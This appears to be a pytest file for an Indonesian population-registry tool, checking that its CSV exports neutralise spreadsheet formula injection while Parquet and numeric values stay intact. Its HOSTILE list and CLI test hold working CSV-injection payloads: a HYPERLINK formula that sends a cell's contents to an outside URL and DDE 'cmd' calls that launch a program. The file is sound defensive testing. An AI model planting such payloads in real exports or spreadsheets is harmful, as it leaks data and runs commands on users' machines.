"""Every CSV Terpadu writes is safe to open in a spreadsheet (no formula runs)."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from terpadu.cli import app
from terpadu.files import write_table
from terpadu.files.tables import csv_text, spreadsheet_safe
from terpadu.settings import get_settings

HOSTILE = [
    '=HYPERLINK("http://contoh.id/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["SITI AMINAH", "3604054107870002", "", "Jl. Raya 1 = 2", "O'BRIEN"]


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    return [row[0] for row in rows[1:]]


def test_formula_cells_are_written_as_text(tmp_path: Path) -> None:
    frame = pl.DataFrame({"NAMA": HOSTILE + PLAIN, "NOMINAL": list(range(-5, 6))})
    out = write_table(frame, tmp_path / "x.csv")
    cells = _cells(out)
    assert cells[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert cells[len(HOSTILE) :] == PLAIN
    numbers = pl.read_csv(out)["NOMINAL"].to_list()
    assert numbers == list(range(-5, 6))  # a negative number stays a number
    assert csv_text(frame) == out.read_bytes().decode("utf-8")


def test_xlsx_and_parquet_keep_the_values(tmp_path: Path) -> None:
    frame = pl.DataFrame({"NAMA": HOSTILE})
    back = pl.read_parquet(write_table(frame, tmp_path / "x.parquet"))
    assert back["NAMA"].to_list() == HOSTILE
    assert spreadsheet_safe(pl.DataFrame({"N": [1, -2]}))["N"].to_list() == [1, -2]


@pytest.fixture
def registry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TERPADU_DATABASE_URL", f"sqlite:///{tmp_path / 'r.db'}")
    monkeypatch.setenv("TERPADU_DATA_DIR", str(tmp_path / "data"))
    get_settings.cache_clear()
    yield tmp_path
    get_settings.cache_clear()


def test_exports_and_problem_lists_from_the_cli(
    registry: Path, cli_account: Callable[..., str]
) -> None:
    cli_account("petugas", "admin_provinsi", "36")
    keluarga = registry / "keluarga.csv"
    anggota = registry / "anggota.csv"
    keluarga.write_text(
        "ID_KELUARGA,NO_KK,KODE_WILAYAH\nK1,3604051203150001,3604052001\n", encoding="utf-8"
    )
    anggota.write_text(
        "ID_ANGGOTA,ID_KELUARGA,NIK,NAMA,JENIS_KELAMIN,TGL_LAHIR,HUBUNGAN_KELUARGA\n"
        'A1,K1,3604054107870002,"=HYPERLINK(""http://x"",""y"")",2,01-07-1987,1\n'
        'A2,K1,"@SUM(1+1)",BUDI,1,02-03-1985,2\n',
        encoding="utf-8",
    )
    runner = CliRunner()
    assert runner.invoke(app, ["init"]).exit_code == 0
    problems = registry / "masalah.csv"
    result = runner.invoke(
        app,
        ["import", str(keluarga), str(anggota), "--source", "desa", "--errors", str(problems)],
        env={"COLUMNS": "200"},
    )
    assert "Traceback" not in result.output
    rows = problems.read_text(encoding="utf-8")
    assert "@SUM" in rows and ",@SUM" not in rows and "'@SUM" in rows
    out = registry / "persons.csv"
    purpose = ["--purpose", "uji ekspor CSV aman"]
    exported = runner.invoke(app, ["export", "persons", "--out", str(out), *purpose])
    assert exported.exit_code == 0, exported.output
    names = pl.read_csv(out, infer_schema=False)["NAMA"].to_list()
    assert any(n.startswith("'=HYPERLINK") for n in names), names
    assert not any(n.startswith("=") for n in names)
